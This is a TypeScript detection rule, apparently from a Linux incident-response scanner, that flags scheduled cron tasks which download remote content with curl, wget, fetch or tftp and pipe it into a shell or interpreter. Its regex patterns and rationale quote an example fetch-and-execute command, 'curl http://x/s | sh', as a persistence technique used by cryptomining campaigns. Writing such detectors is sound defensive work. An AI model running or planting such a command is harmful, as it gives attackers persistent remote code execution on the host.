import type { Rule } from '../rule.js';
import { cap, PACKAGE_FILES } from '../linux-facts.js';

const FETCH = /\b(curl|wget|fetch|tftp)\b/;
/** Piped or substituted into an interpreter, or downloaded then chmod +x / executed in the same entry. */
const EXECUTES = [
  /\|\s*(sudo\s+)?(ba|da|z|k)?sh\b/,
  /\|\s*(python[0-9.]*|perl|ruby|php|node)\b/,
  /\b(ba|da|z|k)?sh\s+-c\s+["']?\$\(/,
  /\$\(\s*(curl|wget)\b/,
  /`\s*(curl|wget)\b/,
  /chmod\s+\+?[0-7]*x/,
  /\b(source|\.)\s+<\(/,
];

export const rule: Rule = {
  id: 'cron-remote-fetch-execute',
  title: 'Scheduled task downloads and runs remote content',
  severity: 'High',
  category: 'Persistence',
  rationale:
    'A cron entry such as `curl http://x/s | sh` re-infects the host on every run and lets the attacker change ' +
    'the payload at will; cryptomining campaigns (Kinsing, TeamTNT) rely on it. Legitimate jobs download data, ' +
    'not code to pipe into a shell, so the pair fetch + execute is a strong signal.',
  mitreTechniques: ['T1053.003', 'T1105'],
  evaluate(pkg) {
    return pkg
      .csv(PACKAGE_FILES.scheduledTasks)
      .filter((t) => FETCH.test(t.Command ?? '') && EXECUTES.some((re) => re.test(t.Command ?? '')))
      .map((t) => ({
        description: `Scheduled task in ${t.Source} (${t.Schedule}, as ${t.User || 'its owner'}) downloads content and executes it.`,
        packagePath: PACKAGE_FILES.scheduledTasks,
        commandLine: cap(t.Command ?? ''),
        accountName: t.User || null,
        detail: cap(Object.values(t).join(',')),
      }));
  },
};
